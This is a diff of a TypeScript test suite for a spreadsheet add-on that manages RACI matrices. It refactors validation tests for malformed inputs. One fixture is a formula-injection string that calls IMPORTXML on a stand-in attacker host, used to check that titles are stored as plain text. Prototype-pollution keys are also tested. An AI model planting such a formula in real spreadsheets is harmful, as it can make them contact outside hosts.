@@ -7,7 +7,8 @@
  * right of the matrix, survive every call.
  */
 import type { WorkbookState } from "../../emulator";
-import { loadAddon, type Addon, type Generated, type Report } from "../helpers/addon";
+import { loadAddon, type Addon } from "../helpers/addon";
+import { LOG_SHEET_NAME } from "../helpers/fixtures";
 import { differences, readGrid, sheetIn, sheetSnapshot, snapshot } from "./structure-oracle";
 
 const M = "M";
@@ -45,22 +46,29 @@ beforeAll(() => {
   base = addon.emulator.toJSON();
 });
 
-type Outcome =
+/** `ok` is a method so that a case of a typed call (see `typed`) checks its own result type. */
+interface Checks<Result> {
+  ok(result: Result, addon: Addon): void;
+}
+type Outcome<Result> =
   /** A clear error whose message matches, and nothing changed. */
   | { error: RegExp }
   /** A correct result, checked by `ok`. */
-  | { ok: (result: unknown, addon: Addon) => void }
+  | Checks<Result>
   /** Either is acceptable (a name the add-on may refuse or handle), but not a third thing. */
-  | { error: RegExp; ok: (result: unknown, addon: Addon) => void };
+  | ({ error: RegExp } & Checks<Result>);
 
-interface Case {
+interface Case<Result = unknown> {
   call: string;
   input: string;
-  run: (addon: Addon) => unknown;
-  outcome: Outcome;
+  run: (addon: Addon) => Result;
+  outcome: Outcome<Result>;
   /** Sheets a successful call may change (default: M; a new sheet is always allowed). */
   changes?: string[];
 }
+
+/** A case whose `ok` reads the result with the type its call returns. */
+const typed = <Result>(c: Case<Result>): Case => c;
 
 const longText = "x".repeat(100_000);
 const injection = '=IMPORTXML("http://evil.example","//a")';
@@ -68,7 +76,6 @@ const validSettings = { ownerPair: ["COO", "Chief of Staff"], maxResponsible: 3 
 
 /** Roles of a matrix as analyzeMatrix reads them back. */
 const rolesOf = (addon: Addon, sheetName: string) => addon.analyze(sheetName).roles.map((r) => r.role);
-const generated = (result: unknown) => result as Generated;
 
 /** A reserved header label used as a role name: refused, or a matrix that still reads back with that role. */
 function readsBackWithRole(role: string, roles: (addon: Addon) => string[]) {
@@ -80,31 +87,31 @@ const CASES: Case[] = [
   {
     call: "generateMatrix",
     input: "an array",
-    run: (a) => a.generate([]),
+    run: (a) => a.bundle.generateMatrix([]),
     outcome: { error: /^.*\nspec: / },
   },
   {
     call: "generateMatrix",
     input: "a title that is a number",
-    run: (a) => a.generate({ title: 42 }),
+    run: (a) => a.bundle.generateMatrix({ title: 42 }),
     outcome: { error: /title: Title must be text/ },
   },
   {
     call: "generateMatrix",
     input: "a title that is an object",
-    run: (a) => a.generate({ title: { name: "x" } }),
+    run: (a) => a.bundle.generateMatrix({ title: { name: "x" } }),
     outcome: { error: /title: / },
   },
   {
     call: "generateMatrix",
     input: "a role that is null",
-    run: (a) => a.generate({ roles: [null] }),
+    run: (a) => a.bundle.generateMatrix({ roles: [null] }),
     outcome: { error: /roles\[0\]: / },
   },
   {
     call: "generateMatrix",
     input: "a role that is a list",
-    run: (a) => a.generate({ roles: ["CEO", ["COO"]] }),
+    run: (a) => a.bundle.generateMatrix({ roles: ["CEO", ["COO"]] }),
     outcome: { error: /roles\[1\]: / },
   },
   {
@@ -116,31 +123,31 @@ const CASES: Case[] = [
   {
     call: "generateMatrix",
     input: "an owner pair that is text",
-    run: (a) => a.generate({ ownerPair: "COO" }),
+    run: (a) => a.bundle.generateMatrix({ ownerPair: "COO" }),
     outcome: { error: /ownerPair/ },
   },
   {
     call: "generateMatrix",
     input: "an owner pair with a number",
-    run: (a) => a.generate({ ownerPair: ["COO", 7] }),
+    run: (a) => a.bundle.generateMatrix({ ownerPair: ["COO", 7] }),
     outcome: { error: /ownerPair/ },
   },
   {
     call: "generateMatrix",
     input: "an area that is a number",
-    run: (a) => a.generate({ initiatives: [{ name: "x", area: 5 }] }),
+    run: (a) => a.bundle.generateMatrix({ initiatives: [{ name: "x", area: 5 }] }),
     outcome: { error: /initiatives\[0\]\.area: / },
   },
   {
     call: "generateMatrix",
     input: "an initiative that is null",
-    run: (a) => a.generate({ initiatives: [null] }),
+    run: (a) => a.bundle.generateMatrix({ initiatives: [null] }),
     outcome: { error: /initiatives\[0\]: / },
   },
   {
     call: "generateMatrix",
     input: "a code that is a number",
-    run: (a) => a.generate({ initiatives: [{ name: "x", assignments: { COO: 1 } }] }),
+    run: (a) => a.bundle.generateMatrix({ initiatives: [{ name: "x", assignments: { COO: 1 } }] }),
     outcome: { error: /initiatives\[0\]\.assignments\.COO: / },
   },
   {
@@ -183,7 +190,10 @@ const CASES: Case[] = [
         title: "Proto",
         roles: ["__proto__", "constructor", "toString"],
         initiatives: [
-          { name: "p", assignments: JSON.parse('{"__proto__":"A","constructor":"R"}') as unknown },
+          {
+            name: "p",
+            assignments: JSON.parse('{"__proto__":"A","constructor":"R"}') as Record<string, string>,
+          },
         ],
       }),
     outcome: {
@@ -196,18 +206,18 @@ const CASES: Case[] = [
       },
     },
   },
-  {
+  typed({
     call: "generateMatrix",
     input: "a title that is a formula",
     run: (a) => a.generate({ title: injection }),
     outcome: {
       ok: (result, addon) => {
-        expect(generated(result).sheetName).toBe(injection);
+        expect(result.sheetName).toBe(injection);
         expect(addon.sheet(injection).getRange("A1").getValue()).toBe(injection);
         expect(addon.sheet(injection).getRange("A1").getFormula()).toBe("");
       },
     },
-  },
+  }),
   {
     call: "generateMatrix",
     input: 'a role named "Status" (the header label that ends the roles)',
@@ -217,45 +227,45 @@ const CASES: Case[] = [
       ok: readsBackWithRole("Status", (addon) => rolesOf(addon, "Reserved")),
     },
   },
-  {
+  typed({
     call: "generateMatrix",
-    input: 'a title equal to the change log\'s sheet name, "RACI change log"',
-    run: (a) => a.generate({ title: "RACI change log" }),
+    input: `a title equal to the change log's sheet name, "${LOG_SHEET_NAME}"`,
+    run: (a) => a.generate({ title: LOG_SHEET_NAME }),
     outcome: {
       error: /title: /,
       ok: (result, addon) => {
-        const { sheetName } = generated(result);
+        const { sheetName } = result;
         const before = readGrid(addon, sheetName).rows.length;
         addon.edit(sheetName, "C9", "R"); // the first logged edit creates the log sheet
         expect(readGrid(addon, sheetName).rows).toHaveLength(before); // no log row appended to the matrix
         expect(addon.analyze(sheetName).findings.filter((f) => f.rule === "UNNAMED_INITIATIVE")).toEqual([]);
       },
     },
-  },
+  }),
 
   // analyzeMatrix
   {
     call: "analyzeMatrix",
     input: "a number",
-    run: (a) => a.app.analyzeMatrix(42),
+    run: (a) => a.bundle.analyzeMatrix(42),
     outcome: { error: /^sheetName must be the name of a sheet/ },
   },
   {
     call: "analyzeMatrix",
     input: "an object",
-    run: (a) => a.app.analyzeMatrix({}),
+    run: (a) => a.bundle.analyzeMatrix({}),
     outcome: { error: /^sheetName must be/ },
   },
   {
     call: "analyzeMatrix",
     input: "a list",
-    run: (a) => a.app.analyzeMatrix([M]),
+    run: (a) => a.bundle.analyzeMatrix([M]),
     outcome: { error: /^sheetName must be/ },
   },
   {
     call: "analyzeMatrix",
     input: "true",
-    run: (a) => a.app.analyzeMatrix(true),
+    run: (a) => a.bundle.analyzeMatrix(true),
     outcome: { error: /^sheetName must be/ },
   },
   {
@@ -282,26 +292,25 @@ const CASES: Case[] = [
     run: (a) => a.analyze("No status"),
     outcome: { error: /^Sheet "No status" is not a RACI matrix/ },
   },
-  {
+  typed({
     call: "analyzeMatrix",
     input: "a matrix with merged cells",
     run: (a) => a.analyze("Merged"),
     outcome: {
-      ok: (result) => {
-        const report = result as Report;
+      ok: (report) => {
         expect(report.roles.map((r) => r.role)).toEqual(["CEO", "COO", "Chief of Staff", "Department heads"]);
         // E10:F10 merged keeps E10's "I": the Department heads' R is gone, so no one is responsible there.
         expect(report.findings.map((f) => [f.rule, f.cell])).toEqual([["NO_RESPONSIBLE", "B10"]]);
       },
     },
     changes: ["Merged"],
-  },
+  }),
 
   // refreshMatrix
   {
     call: "refreshMatrix",
     input: "a number",
-    run: (a) => a.app.refreshMatrix(7),
+    run: (a) => a.bundle.refreshMatrix(7),
     outcome: { error: /^sheetName must be/ },
   },
   {
@@ -334,13 +343,13 @@ const CASES: Case[] = [
   {
     call: "addRole",
     input: "a number",
-    run: (a) => a.app.addRole(M, 42),
+    run: (a) => a.bundle.addRole(M, 42),
     outcome: { error: /role: Role name must be text/ },
   },
   {
     call: "addRole",
     input: "null",
-    run: (a) => a.app.addRole(M, null),
+    run: (a) => a.bundle.addRole(M, null),
     outcome: { error: /role: Role name is missing/ },
   },
   {
@@ -358,13 +367,13 @@ const CASES: Case[] = [
   {
     call: "addRole",
     input: "an object with toString",
-    run: (a) => a.app.addRole(M, { toString: () => "CFO" }),
+    run: (a) => a.bundle.addRole(M, { toString: () => "CFO" }),
     outcome: { error: /role: Role name must be text/ },
   },
   {
     call: "addRole",
     input: "a sheet name that is a number",
-    run: (a) => a.app.addRole(42, "CFO"),
+    run: (a) => a.bundle.addRole(42, "CFO"),
     outcome: { error: /^sheetName must be/ },
   },
   {
@@ -413,13 +422,13 @@ const CASES: Case[] = [
   {
     call: "renameRole",
     input: "a number as the current name",
-    run: (a) => a.app.renameRole(M, 5, "X"),
+    run: (a) => a.bundle.renameRole(M, 5, "X"),
     outcome: { error: /from: Current role name must be text/ },
   },
   {
     call: "renameRole",
     input: "null as the new name",
-    run: (a) => a.app.renameRole(M, "CEO", null),
+    run: (a) => a.bundle.renameRole(M, "CEO", null),
     outcome: { error: /to: New role name is missing/ },
   },
   {
@@ -454,7 +463,7 @@ const CASES: Case[] = [
   {
     call: "removeRole",
     input: "a list",
-    run: (a) => a.app.removeRole(M, ["CEO"]),
+    run: (a) => a.bundle.removeRole(M, ["CEO"]),
     outcome: { error: /role: Role name must be text/ },
   },
   {
@@ -474,13 +483,13 @@ const CASES: Case[] = [
   {
     call: "addInitiative",
     input: "an object as the name",
-    run: (a) => a.app.addInitiative(M, {}),
+    run: (a) => a.bundle.addInitiative(M, {}),
     outcome: { error: /initiative: Initiative name must be text/ },
   },
   {
     call: "addInitiative",
     input: "a number as the area",
-    run: (a) => a.app.addInitiative(M, "X", 42),
+    run: (a) => a.bundle.addInitiative(M, "X", 42),
     outcome: { error: /area: Area must be text/ },
   },
   {
@@ -532,7 +541,7 @@ const CASES: Case[] = [
   {
     call: "removeInitiative",
     input: "a number as the name",
-    run: (a) => a.app.removeInitiative(M, 42),
+    run: (a) => a.bundle.removeInitiative(M, 42),
     outcome: { error: /initiative: Initiative name must be text/ },
   },
   {
@@ -550,7 +559,7 @@ const CASES: Case[] = [
   {
     call: "removeInitiative",
     input: "a row given as text",
-    run: (a) => a.app.removeInitiative(M, STRATEGY, "9"),
+    run: (a) => a.bundle.removeInitiative(M, STRATEGY, "9"),
     outcome: { error: /row must be a sheet row number .*"9"/ },
   },
   {
@@ -564,19 +573,19 @@ const CASES: Case[] = [
   {
     call: "moveInitiative",
     input: "an unknown direction",
-    run: (a) => a.app.moveInitiative(M, STRATEGY, "sideways"),
+    run: (a) => a.bundle.moveInitiative(M, STRATEGY, "sideways"),
     outcome: { error: /direction must be "up" or "down"/ },
   },
   {
     call: "moveInitiative",
     input: "null as the direction",
-    run: (a) => a.app.moveInitiative(M, STRATEGY, null),
+    run: (a) => a.bundle.moveInitiative(M, STRATEGY, null),
     outcome: { error: /direction must be/ },
   },
   {
     call: "moveInitiative",
     input: "a number as the name",
-    run: (a) => a.app.moveInitiative(M, 3, "up"),
+    run: (a) => a.bundle.moveInitiative(M, 3, "up"),
     outcome: { error: /initiative: Initiative name must be text/ },
   },
   {
@@ -668,7 +677,7 @@ const CASES: Case[] = [
   {
     call: "selectCell",
     input: "a number",
-    run: (a) => a.app.selectCell(M, 42),
+    run: (a) => a.bundle.selectCell(M, 42),
     outcome: { error: /^a1 must be a cell address/ },
   },
   {
@@ -717,7 +726,7 @@ const CASES: Case[] = [
   {
     call: "describeActiveSheet",
     input: "a number",
-    run: (a) => a.app.describeActiveSheet(42),
+    run: (a) => a.bundle.describeActiveSheet(42),
     outcome: { error: /^sheetName must be/ },
   },
   {
@@ -744,7 +753,7 @@ const CASES: Case[] = [
   {
     call: "getChangeLog",
     input: "an object as the sheet",
-    run: (a) => a.app.getChangeLog({}),
+    run: (a) => a.bundle.getChangeLog({}),
     outcome: { error: /^sheetName must be/ },
   },
   {
@@ -756,7 +765,7 @@ const CASES: Case[] = [
   {
     call: "getChangeLog",
     input: "a number as the initiative",
-    run: (a) => a.app.getChangeLog(M, 42),
+    run: (a) => a.bundle.getChangeLog(M, 42),
     outcome: { ok: (result) => expect(result).toEqual([]) },
   },
 
@@ -770,25 +779,25 @@ const CASES: Case[] = [
   {
     call: "onEdit",
     input: "{}",
-    run: (a) => a.app.onEdit({}),
+    run: (a) => a.bundle.onEdit({}),
     outcome: { ok: (result) => expect(result).toBeUndefined() },
   },
   {
     call: "onEdit",
     input: "a range that is a number",
-    run: (a) => a.app.onEdit({ range: 5 }),
+    run: (a) => a.bundle.onEdit({ range: 5 }),
     outcome: { ok: (result) => expect(result).toBeUndefined() },
   },
   {
     call: "onEdit",
     input: "a range without a sheet",
-    run: (a) => a.app.onEdit({ range: { getA1Notation: () => "C9" }, value: "ra" }),
+    run: (a) => a.bundle.onEdit({ range: { getA1Notation: () => "C9" }, value: "ra" }),
     outcome: { ok: (result) => expect(result).toBeUndefined() },
   },
   {
     call: "onEdit",
     input: "an edit on another sheet (a table with an Initiative column)",
-    run: (a) => a.emulator.editAsUser(a.app, NOTES, "B2", "ra"),
+    run: (a) => a.emulator.editAsUser(a.bundle, NOTES, "B2", "ra"),
     outcome: { ok: (_r, addon) => expect(addon.sheet(NOTES).getRange("B2").getValue()).toBe("ra") },
     changes: [NOTES],
   },
@@ -864,7 +873,7 @@ it.each(CASES.map((c) => [titleOf(c), c] as const))("%s", (_title, c) => {
     );
   c.outcome.ok(result, addon);
   // Nothing outside the matrix changed: the other sheets, and the sentinels beside the matrix.
-  const allowed = new Set([...(c.changes ?? [M]), "RACI change log"]);
+  const allowed = new Set([...(c.changes ?? [M]), LOG_SHEET_NAME]);
   for (const name of sheetsBefore.filter((n) => !allowed.has(n)))
     expect({ name, changes: differences(sheetIn(before, name), sheetSnapshot(addon, name)) }).toEqual({
       name,
@@ -918,7 +927,7 @@ describe("large inputs", () => {
       ["Pasted", "Row 4999", "A/R", "C", "", "maybe"],
     ]);
     expect(logged).toEqual([]); // onEdit reports what it could not do on the console
-    expect(addon.sheet("RACI change log").getLastRow()).toBe(1 + 5_000 * 4);
+    expect(addon.sheet(LOG_SHEET_NAME).getLastRow()).toBe(1 + 5_000 * 4);
     expect(sheetSnapshot(addon, NOTES)).toEqual(notes);
     for (const sentinel of SENTINELS) expect(occurrences(addon, M, sentinel)).toBe(1);
   });
